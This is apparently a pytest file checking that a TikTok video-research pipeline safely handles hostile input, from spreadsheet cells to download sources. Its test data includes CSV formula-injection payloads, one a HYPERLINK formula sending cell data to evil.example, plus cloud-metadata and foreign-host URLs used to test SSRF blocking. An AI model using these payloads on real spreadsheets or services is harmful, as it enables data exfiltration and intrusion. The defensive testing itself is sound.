"""Hostile and careless input (issue 14): each probe is one bad input, and each ends as one
recorded line or a safe output, never a traceback or a lost result."""

from __future__ import annotations

import csv
import json
import subprocess
from pathlib import Path

import pandas as pd
import pytest
from support.download import case_catalog, run_job, setup_run
from support.workflow import run_snakemake

from tiktok_research.accounting.export import export_dataset
from tiktok_research.config import load
from tiktok_research.database import open_database
from tiktok_research.errors import DatabaseError, DownloadError, OcrError, OverCap, SearchError
from tiktok_research.fakeweb.media import ensure_media
from tiktok_research.fakeweb.server import FakeWeb
from tiktok_research.process.ocr.claude import ClaudeOcrEngine
from tiktok_research.records import error_record
from tiktok_research.registry import Job, Services, load_task
from tiktok_research.runtime.host import execute

HOSTILE_CELLS = {
    "caption": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "transcript": "+cmd|' /C calc'!A0",
    "ocr_text": "@SUM(1+1)*cmd|' /C calc'!A0",
    "title": "-2+3+cmd|' /C calc'!A0",
    "author": "\tTAB=1+1",
    "hashtags": "\r=1+1",
}


def test_csv_cells_that_a_spreadsheet_would_run_are_text(tmp_path: Path) -> None:
    row = {"video_id": "101", "like_count": -3, "frame_count": 2, **HOSTILE_CELLS,
           "url": "https://www.tiktok.com/@a/video/101"}
    videos = [{"query_index": 0, "query": "=1+1 ramen",
               "videos": {"101": {"outcome": "published", "dataset_row": row}}}]
    parquet, csv_path = export_dataset(videos, tmp_path / "d.parquet", tmp_path / "d.csv")
    with csv_path.open(newline="", encoding="utf-8") as handle:
        [cells] = list(csv.DictReader(handle))
    for name, value in HOSTILE_CELLS.items():
        assert cells[name] == "'" + value, name
    assert cells["queries"] == "'=1+1 ramen"
    # Numbers and harmless text are as they were; the Parquet file keeps every value.
    assert (cells["like_count"], cells["frame_count"]) == ("-3", "2")
    assert cells["url"] == row["url"]
    frame = pd.read_parquet(parquet)
    assert {name: frame.iloc[0][name] for name in HOSTILE_CELLS} == HOSTILE_CELLS


@pytest.mark.parametrize("dsn", [
    "host=127.0.0.1 port=1 user=u password=open sesame please dbname=x",  # libpq refuses it
    "host=127.0.0.1 port=1 user=u password='open sesame please' dbname=x",
    "postgresql://u:open%20sesame%20please@127.0.0.1:1/x",
])
def test_no_form_of_database_url_leaks_its_password(dsn, monkeypatch) -> None:
    monkeypatch.setenv("DATABASE_URL", dsn)
    with pytest.raises(DatabaseError) as raised:
        open_database({"database": {"backend": "postgres"}})
    record = error_record(raised.value, {"video_id": "1"}, attempt=1, default_type="upload")
    for text in (str(raised.value), json.dumps(record)):
        assert "postgres:" in text
        for word in ("open", "sesame", "please"):
            assert word not in text, text


def big_field_list(workdir: Path) -> str:
    (workdir / "big.csv").write_text('query,topic\nramen,food\n"' + "a" * 200_000 + '",x\n',
                                     encoding="utf-8")
    return "big.csv"


@pytest.mark.parametrize(("setting", "expected"), [
    (lambda workdir: {"research_list": "folder"},
     "research list folder is a folder, not a CSV file"),
    (lambda workdir: {"research_list": big_field_list(workdir)},
     "research list big.csv, line 3: field larger than field limit (131072)"),
    (lambda workdir: {"output_dir": "out{put}"},
     "config key 'output_dir': 'out{put}' contains { or }, which Snakemake reads as a "
     "wildcard; choose a path without them"),
], ids=["list is a folder", "field over 128 KiB", "braces in output_dir"])
def test_bad_local_input_is_one_line(tmp_path: Path, setting, expected) -> None:
    (tmp_path / "folder").mkdir()
    result = run_snakemake(tmp_path, setting(tmp_path), "-n", timeout=120)
    assert result.returncode != 0
    assert expected in result.stderr.splitlines(), result.stderr[-2000:]
    assert "Traceback" not in result.stderr + result.stdout


@pytest.mark.parametrize("body", [{"videos": 5}, {"videos": "5"}, {"videos": {"link": "x"}}])
def test_an_odd_serper_reply_is_a_recorded_search_failure(fake_web, tmp_path, monkeypatch,
                                                         body) -> None:
    monkeypatch.setenv("SERPER_API_KEY", "k")
    fake_web.fail("serper", 200, times=None, body=body)
    config = load({"output_dir": str(tmp_path / "out"), "serper.base_url": fake_web.base_url,
                   "serper.backoff_seconds": 0.01, "tiktok.hosts": [fake_web.host]})
    urls = tmp_path / "out" / "queries" / "q" / "urls.json"
    job = Job(task="search", key="q", config=config, outputs={"urls": str(urls)},
              params={"query": {"index": 0, "query": "ramen", "meta": {}}})
    services = Services()
    with pytest.raises(SearchError) as raised:
        execute(job, load_task("search"), services)
    assert raised.value.retryable and not urls.exists()
    [record] = services.recorded
    assert record["type"] == "search" and record["query"] == "ramen"
    assert f"'videos' as {type(body['videos']).__name__}, not a list" in record["error"]
    assert "gave up after 4 attempts" in record["error"]


MESSAGE = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-haiku-4-5",
           "stop_reason": "end_turn", "stop_sequence": None}
USAGE = {"usage": {"input_tokens": 10, "output_tokens": 3}}


def text_block(text):
    return {**MESSAGE, **USAGE, "content": [{"type": "text", "text": text}]}


@pytest.mark.parametrize(("body", "expected", "billed"), [
    ("not json", "with a body that is not JSON", 0),
    ([1, 2, 3], "not a Messages response (no usage", 0),
    ({**MESSAGE, **USAGE, "content": "a string"}, "not a Messages response (content: str)", 1),
    ({**MESSAGE, "content": [{"type": "text", "text": '{"items": []}'}]}, "(no usage", 0),
    (text_block(5), "a text block whose text is not a string", 1),
    (text_block('{"items": 5}'), "JSON without a list of items ('items' is int)", 1),
], ids=["not JSON", "an array", "string content", "no usage", "text not a string",
        "items not a list"])
def test_an_odd_anthropic_reply_is_a_retryable_ocr_failure(fake_web, tmp_path, monkeypatch,
                                                           body, expected, billed) -> None:
    monkeypatch.setenv("ANTHROPIC_API_KEY", "sk-ant-test-0123456789")
    frame = tmp_path / "001_t0.0s.jpg"
    subprocess.run(["ffmpeg", "-v", "error", "-f", "lavfi", "-i", "color=c=red:s=16x16",
                    "-frames:v", "1", str(frame)], check=True)
    fake_web.fail("anthropic", 200, body=body,
                  headers={"Content-Type": "application/json"} if isinstance(body, str) else None)
    engine = ClaudeOcrEngine(base_url=fake_web.base_url, max_retries=0)
    with pytest.raises(OcrError) as raised:
        engine.read(frame)
    assert expected in str(raised.value) and raised.value.retryable
    record = error_record(raised.value, {"video_id": "1"}, attempt=1, default_type="process")
    assert record["type"] == "process" and record["details"]["reason"] in ("bad_reply",
                                                                          "bad_answer")
    # A reply with its usage was billed: it counts, whatever its answer was.
    assert engine.usage.requests == billed


HOSTILE_ITEMS = {
    "odd types": {"author": "someone", "textExtra": ["#a", "b"], "stats": [1, 2],
                  "statsV2": "many", "music": 5, "challenges": "c", "desc": {"text": "x"},
                  "stickersOnItem": [5, None], "locationCreated": ["JP"]},
    "odd numbers": {"createTime": 10**20, "stats": {"diggCount": 10**30, "playCount": "1e999",
                                                     "shareCount": float("nan")},
                    "video": {"duration": "1e999", "width": float("inf"), "height": -1e308}},
}


def test_odd_page_data_after_a_good_download_leaves_valid_metadata(tmp_path, monkeypatch) -> None:
    monkeypatch.chdir(tmp_path)
    catalog, videos = case_catalog(
        {name: ("ok", {"item_patch": patch}) for name, patch in HOSTILE_ITEMS.items()},
        seed=14, duration=10.0)
    ensure_media(list(videos.values()))
    with FakeWeb(catalog) as web:
        for name, video in videos.items():
            config = setup_run(web, video, tmp_path)
            records: list = []
            metadata = run_job(video.video_id, config, tmp_path, records)
            folder = tmp_path / "output" / "videos" / video.video_id
            assert records == [], name
            assert (folder / "video.mp4").stat().st_size > 0
            # What was written is strict JSON (no NaN or Infinity) and says what it knows.
            written = json.loads((folder / "metadata.json").read_text(),
                                 parse_constant=lambda constant: pytest.fail(constant))
            assert written == metadata and written["video_id"] == video.video_id
    assert written["create_time"] is None and written["duration"] is None
    assert written["width"] is None and written["height"] is None
    # The broken `stats` are passed over for statsV2's exact counts.
    assert written["like_count"] == int(catalog.videos[written["video_id"]].stats["diggCount"])


def test_an_unreadable_failures_json_is_kept_aside_and_the_run_says_so(fake_web,
                                                                         tmp_path) -> None:
    """Truncated or hand-edited: a run keeps it under a timestamped name and says so in one line
    (the run summary then writes a new one from the records); a dry run leaves it alone."""
    from support.workflow import base_config, write_research_list

    write_research_list(tmp_path, ["cafes in lisbon"])
    out = tmp_path / "output"
    out.mkdir()
    broken = '[{"type": "download", "note": "my own remark", "error": "trunc'
    (out / "failures.json").write_text(broken, encoding="utf-8")
    config = base_config(fake_web.host)
    dry = run_snakemake(tmp_path, config, "-n")
    assert dry.returncode == 0, dry.stderr[-2000:]
    assert (out / "failures.json").read_text(encoding="utf-8") == broken
    done = run_snakemake(tmp_path, base_config(fake_web.host, search_only=True))
    assert done.returncode == 0, done.stderr[-2000:]
    [aside] = out.glob("failures.json.unreadable-*")
    assert aside.read_text(encoding="utf-8") == broken
    [line] = [line for line in done.stderr.splitlines() if "could not be read" in line]
    assert line.startswith("tiktok-research: ") and aside.name in line


def test_a_broken_failures_json_is_written_anew_from_the_records(tmp_path) -> None:
    """failures.json is an output of the run summary, never read or appended to: a truncated
    or hand-edited one is replaced by the records in the run's database."""
    from test_report import make_run

    from tiktok_research.accounting.summarise import summarise_after_failure
    from tiktok_research.queries import all_queries

    config, out = make_run(tmp_path)
    (out / "failures.json").write_text('[{"type": "download", "error": "trunc', encoding="utf-8")
    progress = summarise_after_failure(config, all_queries(config))
    failures = json.loads((out / "failures.json").read_text())
    assert [(f["type"], f["video_id"]) for f in failures] == [("download", "202")]
    assert progress["stats"]["download_failed"] == 1


@pytest.fixture(scope="module")
def one_video_site():
    catalog, videos = case_catalog({"ok": ("ok", {})}, seed=15, duration=10.0)
    ensure_media(list(videos.values()))
    with FakeWeb(catalog) as web:
        yield web, videos["ok"]


@pytest.mark.parametrize(("tiktok", "cap", "expected"), [
    ({"max_video_bytes": 1000}, "tiktok.max_video_bytes", "bytes, over"),
    ({"max_duration_seconds": 5}, "tiktok.max_duration_seconds", "the video lasts 10 s"),
    ({"max_pixels": 1000}, "tiktok.max_pixels", "its frames are"),
], ids=["bytes", "duration", "pixels"])
def test_a_video_over_a_cap_is_a_recorded_refusal_naming_it(one_video_site, tmp_path,
                                                            monkeypatch, tiktok, cap,
                                                            expected) -> None:
    """The same cap would refuse the video again: the job ends it (metadata.json names the
    cap, video.mp4 is empty) rather than fail, so no later run downloads it again."""
    monkeypatch.chdir(tmp_path)
    web, video = one_video_site
    config = setup_run(web, video, tmp_path, **tiktok)
    records: list = []
    metadata = run_job(video.video_id, config, tmp_path, records)
    [record] = records
    assert record["type"] == "download" and cap in record["error"] and expected in record["error"]
    assert metadata["refused"]["cap"] == cap and expected in metadata["refused"]["error"]
    folder = tmp_path / "output" / "videos" / video.video_id
    assert json.loads((folder / "metadata.json").read_text()) == metadata
    assert (folder / "video.mp4").read_bytes() == b""
    assert [p.name for p in folder.glob("*.part")] == []


def test_a_download_over_its_deadline_fails_and_may_be_retried(one_video_site, tmp_path,
                                                              monkeypatch) -> None:
    """A slow network may be faster next time: the deadline fails the job (retryable)."""
    monkeypatch.chdir(tmp_path)
    web, video = one_video_site
    config = setup_run(web, video, tmp_path, download_deadline_seconds=0.01)
    records: list = []
    with pytest.raises(DownloadError, match="tiktok.download_deadline_seconds") as raised:
        run_job(video.video_id, config, tmp_path, records)
    assert raised.value.retryable and "took longer" in str(raised.value)
    assert [r["type"] for r in records] == ["download"]
    folder = tmp_path / "output" / "videos" / video.video_id
    assert not (folder / "video.mp4").exists()
    assert [p.name for p in folder.glob("*.part")] == []


async def endless(url: str, start: int, end: int) -> tuple[int, str, bytes]:
    """A source that answers every range in full and never says how big it is."""
    return 206, "", b"\0" * (end - start + 1)


def test_a_source_without_a_total_is_read_no_further_than_the_cap(tmp_path) -> None:
    import asyncio

    from tiktok_research.download.transfer import fetch_to
    from tiktok_research.download.verify import Caps

    target = tmp_path / "video.part"
    with pytest.raises(OverCap, match=r"at least 5120 bytes, over tiktok.max_video_bytes"):
        asyncio.run(fetch_to(endless, "https://cdn/x", target, 1024, Caps(max_bytes=5000)))
    assert target.stat().st_size <= 5000


def test_page_data_cannot_aim_the_fetch_at_another_host(one_video_site, tmp_path,
                                                        monkeypatch) -> None:
    """Sources on another host (here the fake site under another name, an internal address
    and a foreign https host) are skipped: no request leaves for them with the cookies."""
    monkeypatch.chdir(tmp_path)
    web, video = one_video_site
    port = web.host.rsplit(":", 1)[1]
    elsewhere = f"http://localhost:{port}/video/tos/elsewhere.mp4"
    video.item_patch = {"video": {"playAddr": elsewhere, "bitrateInfo": [],
                                  "PlayAddrStruct": {"UrlList": ["http://169.254.169.254/x"]},
                                  "downloadAddr": "https://evil.example/x.mp4"}}
    before = len(web.requests_to("tiktok"))
    try:
        config = setup_run(web, video, tmp_path)
        records: list = []
        with pytest.raises(DownloadError, match="no source on an allowed host"):
            run_job(video.video_id, config, tmp_path, records)
    finally:
        video.item_patch = {}
    assert [r.path for r in web.requests_to("tiktok")[before:]
            if r.header("host", "").startswith("localhost")] == []
    assert records and "tiktok.cdn_hosts" in records[0]["error"]


PROBE = Path(__file__).parent / "support" / "devtools_probe.py"


def probe_as_nobody(secret: Path) -> dict:
    """What user `nobody` can reach of the run's browser (tests/support/devtools_probe.py)."""
    import json
    import subprocess
    import sys

    done = subprocess.run(["setpriv", "--reuid=nobody", "--regid=nogroup", "--clear-groups",
                           sys.executable, str(PROBE), str(secret)],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr[-2000:]
    return json.loads(done.stdout)


@pytest.mark.optional(reason="needs root, to run the probe as a second user (nobody)")
def test_another_local_user_cannot_drive_the_browser(tmp_path) -> None:
    """The issue's probe: user `nobody` looks for a DevTools endpoint on every local port and
    through it opens the researcher's 0600 secret file in the run's browser. The browser is
    driven over a pipe, so there is no endpoint to find."""
    import os

    from tiktok_research.download.pool import BrowserPool
    from tiktok_research.download.session import BrowserSettings

    if os.geteuid() != 0:
        pytest.skip("needs root to run the probe as user nobody")
    secret = tmp_path / ".env"
    secret.write_text("SERPER_API_KEY=not-for-nobody\n")
    secret.chmod(0o600)
    pool = BrowserPool()
    try:
        pool.prestart(BrowserSettings(profiles_dir=tmp_path / "profiles"))
        [pid] = pool.browser_pids()
        arguments = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
        assert "--remote-debugging-pipe" in arguments
        assert not any(a.startswith("--remote-debugging-port") for a in arguments)
        probe = probe_as_nobody(secret)
        assert not any("not-for-nobody" in text for text in probe["read"]), probe
        assert probe["devtools"] == [], probe
    finally:
        pool.close()


def test_site_isolation_stays_on_and_no_web_origin_is_allowed(tmp_path) -> None:
    """Chromium keeps site isolation, allows no web origin on DevTools, and is sandboxed
    unless the run is root."""
    import os

    from tiktok_research.download.pool import BrowserPool
    from tiktok_research.download.session import BrowserSettings

    pool = BrowserPool()
    try:
        pool.prestart(BrowserSettings(profiles_dir=tmp_path / "profiles"))
        [pid] = pool.browser_pids()
        arguments = Path(f"/proc/{pid}/cmdline").read_bytes().decode().split("\0")
        assert not any(a.startswith("--remote-allow-origins") for a in arguments)
        disabled = [a for a in arguments if a.startswith("--disable-features=")]
        assert not any("site-per-process" in a or "IsolateOrigins" in a for a in disabled)
        assert ("--no-sandbox" in arguments) == (os.geteuid() == 0)
    finally:
        pool.close()


# --- item 4: a crash, hang or runaway allocation in decoding fails that video alone ----------
@pytest.fixture(scope="module")
def speaking_video() -> Path:
    from support.demo_media import pick_demo_set

    return pick_demo_set().speaking[0].path


def test_a_decoder_crash_fails_that_video_alone(speaking_video, tmp_path, monkeypatch) -> None:
    """The decoding child is killed with SIGKILL (the test hook, as a crashing decoder ends):
    the step fails with a verdict to confirm, this process goes on, and the next file
    decodes."""
    from tiktok_research.errors import StepFailed
    from tiktok_research.isolated import CRASH_HOOK
    from tiktok_research.process.steps import step_detect_scenes, step_extract_audio

    crashing = tmp_path / "crash-me.mp4"
    crashing.write_bytes(speaking_video.read_bytes())
    monkeypatch.setenv(CRASH_HOOK, "crash-me")
    for step in (lambda: step_detect_scenes(crashing, tmp_path / "frames", 20),
                 lambda: step_extract_audio(crashing, tmp_path / "audio.mp3")):
        with pytest.raises(StepFailed, match=r"decoder crashed on crash-me.mp4 \(killed by "
                                             r"SIGKILL\)") as raised:
            step()
        assert (raised.value.reason, raised.value.retryable, raised.value.outcome) == (
            "decoder_crashed", False, "processing_failed")
    assert not (tmp_path / "frames").exists() and not (tmp_path / "audio.mp3").exists()
    assert len(step_detect_scenes(speaking_video, tmp_path / "frames", 20)) >= 1


def test_a_step_over_its_timeout_fails_naming_the_key(speaking_video, tmp_path) -> None:
    from tiktok_research.errors import StepFailed
    from tiktok_research.process.steps import ProcessSettings, step_detect_scenes

    settings = ProcessSettings.from_config({"process": {"timeouts": {"detect_scenes": 0.001}}})
    with pytest.raises(StepFailed, match=r"process\.timeouts\.detect_scenes") as raised:
        step_detect_scenes(speaking_video, tmp_path / "frames", 20,
                           settings.limits("detect_scenes"))
    assert raised.value.reason == "step_timeout"
    assert not (tmp_path / "frames").exists()


def test_a_deadline_stops_inference_between_its_pieces() -> None:
    """Work that stays in this process (a warm model) is stopped between segments or frames."""
    from tiktok_research.errors import ProcessError
    from tiktok_research.isolated import Deadline, Limits

    deadline = Deadline("transcribing audio.mp3", Limits(0.0, 0, "process.timeouts.transcribe"))
    with pytest.raises(ProcessError, match=r"transcribing audio.mp3 took over 0 s "
                                           r"\(process\.timeouts\.transcribe\)") as raised:
        deadline.check()
    # A busy machine or a slow API may be the cause, not the file: no verdict, a retry.
    assert raised.value.retryable and raised.value.outcome is None
    Deadline("x", Limits(60, 0, "k")).check()


def test_an_allocation_over_the_memory_limit_fails_in_the_child(speaking_video,
                                                                tmp_path) -> None:
    from tiktok_research.errors import MediaError
    from tiktok_research.isolated import Limits, run_isolated

    with pytest.raises(MediaError, match="MemoryError"):
        run_isolated(bytearray, (8 * 1024 ** 3,), Limits(60, 1024, "k"), speaking_video)
    assert run_isolated(len, (b"abc",), Limits(60, 1024, "k"), speaking_video) == 3


# --- item 11: receipts record the destination; a new one gets the finished videos too ---------
@pytest.mark.slow
def test_a_new_destination_gets_the_finished_videos_without_processing_them_again(
        one_video_site, tmp_path) -> None:
    """Published to one folder and SQLite file, then the config names others: the next run
    copies the video's objects (md5 as in the receipt) and its row there, says so, and runs no
    download or processing; a third run has nothing to do."""
    import sqlite3

    from support.workflow import base_config, write_research_list

    web, video = one_video_site
    made = web.catalog
    made.query_results["new destination"] = [video.video_id]
    write_research_list(tmp_path, ["new destination"])
    out = tmp_path / "output"

    def config(name: str) -> dict:
        return base_config(web.host, storage={"local_dir": str(tmp_path / name / "bucket")},
                           database={"sqlite_path": str(tmp_path / name / "db.sqlite")})

    first = run_snakemake(tmp_path, config("first"))
    assert first.returncode == 0, first.stderr[-3000:]
    receipt_path = out / "videos" / video.video_id / ".uploaded"
    receipt = json.loads(receipt_path.read_text())
    assert receipt["destination"]["storage"] == {
        "backend": "local", "where": str(tmp_path / "first" / "bucket")}
    assert receipt["destination"]["database"] == {
        "backend": "sqlite", "where": str(tmp_path / "first" / "db.sqlite")}
    before = receipt_path.read_bytes()

    second = run_snakemake(tmp_path, config("second"))
    assert second.returncode == 0, second.stderr[-3000:]
    assert "rule download_video" not in second.stdout + second.stderr
    assert "rule process_and_publish_video" not in second.stdout + second.stderr
    assert receipt_path.read_bytes() == before
    from tiktok_research.publish.storage import file_md5

    for item in receipt["objects"]:
        copy = tmp_path / "second" / "bucket" / item["key"]
        assert file_md5(copy) == item["md5"], item["key"]
    with sqlite3.connect(tmp_path / "second" / "db.sqlite") as db:
        [(prefix,)] = db.execute("SELECT gcs_prefix FROM videos WHERE video_id = ?",
                                 (video.video_id,)).fetchall()
        assert db.execute("SELECT video_id FROM query_videos").fetchall() == [(video.video_id,)]
    assert prefix == (tmp_path / "second" / "bucket" / "videos" / video.video_id).as_uri() + "/"
    notes = list((out / "queries").glob("*/published-*.json"))
    assert len(notes) == 2
    copied = [json.loads(p.read_text())["copied"] for p in notes]
    assert sorted(map(len, copied)) == [0, 1]
    log = "".join(p.read_text() for p in (out / "logs" / "summarise").rglob("*") if p.is_file())
    assert "now published to this run's" in log

    third = run_snakemake(tmp_path, config("second"))
    assert third.returncode == 0, third.stderr[-3000:]
    assert "Nothing to be done" in third.stdout + third.stderr


def test_a_receipts_destination_never_holds_the_database_password(monkeypatch) -> None:
    from tiktok_research.publish.destination import destination, destination_key

    config = {"output_dir": "out", "database": {"backend": "postgres"},
              "storage": {"backend": "gcs", "gcs_bucket": "study-a"}}
    monkeypatch.setenv("DATABASE_URL", "postgresql://me:hunter2-secret@db.example/study")
    monkeypatch.delenv("GCS_BUCKET", raising=False)
    where = destination(config)
    assert "hunter2" not in json.dumps(where)
    assert where["storage"] == {"backend": "gcs", "where": "gs://study-a"}
    assert where["database"] == {"backend": "postgres", "where": "postgres://db.example:5432/study"}
    key = destination_key(config)
    monkeypatch.setenv("DATABASE_URL", "host=db.example dbname=study password='new one'")
    assert destination_key(config) == key  # a rotated password is the same database
    monkeypatch.setenv("DATABASE_URL", "postgresql://me:hunter2-secret@db.example/other")
    assert destination_key(config) != key


class HugeReplies:
    """A local site whose video URLs ignore the Range header and answer 200 with 3 MB: with a
    Content-Length (`/declared`) or chunked, without one (`/chunked`)."""

    SIZE = 3 * 1024 * 1024

    def __enter__(self):
        import http.server
        import threading

        size = self.SIZE

        class Handler(http.server.BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, *args) -> None:
                pass

            def do_GET(self) -> None:
                if self.path == "/":
                    body = b"<html><body>video page</body></html>"
                    self.send_response(200)
                    self.send_header("Content-Type", "text/html")
                    self.send_header("Content-Length", str(len(body)))
                    self.end_headers()
                    self.wfile.write(body)
                    return
                self.send_response(200)
                self.send_header("Content-Type", "video/mp4")
                if self.path == "/declared":
                    self.send_header("Content-Length", str(size))
                    self.end_headers()
                    self.wfile.write(b"\0" * size)
                    return
                self.send_header("Transfer-Encoding", "chunked")
                self.end_headers()
                piece = b"\0" * 65536
                for _ in range(size // len(piece)):
                    self.wfile.write(b"%x\r\n%s\r\n" % (len(piece), piece))
                self.wfile.write(b"0\r\n\r\n")

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()


def test_a_whole_reply_over_the_cap_is_never_held_whole(tmp_path) -> None:
    """A source that ignores the range and sends 3 MB at once, against a 1 MB cap: the page
    stops reading (a Content-Length over the cap is not read at all) and so does the HTTP
    client; either is OverCap naming tiktok.max_video_bytes."""
    import asyncio

    from tiktok_research.download.session import BrowserSession, BrowserSettings
    from tiktok_research.download.transfer import InPage, Outside

    cap = 1024 * 1024

    async def probe(site) -> list[str]:
        profile = tmp_path / "profiles" / "slot-0"
        profile.mkdir(parents=True)
        session = BrowserSession(BrowserSettings(profiles_dir=tmp_path / "profiles"), profile)
        await session.start()
        errors = []
        try:
            tab = await session.browser.get(site.url + "/")
            clients = [InPage(tab, 30, max_bytes=cap), Outside([], "test", site.url, 30, cap)]
            for client in clients:
                for path in ("/declared", "/chunked"):
                    with pytest.raises(OverCap, match="over tiktok.max_video_bytes") as raised:
                        await client.get(site.url + path, 0, 1023)
                    errors.append(str(raised.value))
            await clients[1].close()
        finally:
            await session.stop()
        return errors

    with HugeReplies() as site:
        errors = asyncio.run(probe(site))
    assert len(errors) == 4
    assert "3145728 bytes" in errors[0] and "3145728 bytes" in errors[2]  # declared: not read
